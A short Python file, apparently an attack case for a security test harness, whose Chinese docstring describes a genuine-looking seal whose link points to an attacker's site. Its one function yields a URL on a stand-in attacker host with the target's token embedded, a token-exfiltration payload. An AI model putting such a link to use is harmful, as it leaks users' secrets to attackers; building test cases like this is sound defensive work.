"""真的签封，网址指向攻击者的网站。"""

from attacked import Attempt, Prey


def attack(prey: Prey):
    yield Attempt(f"https://verify.docgen.example.evil.example/v/{prey.token.text}")
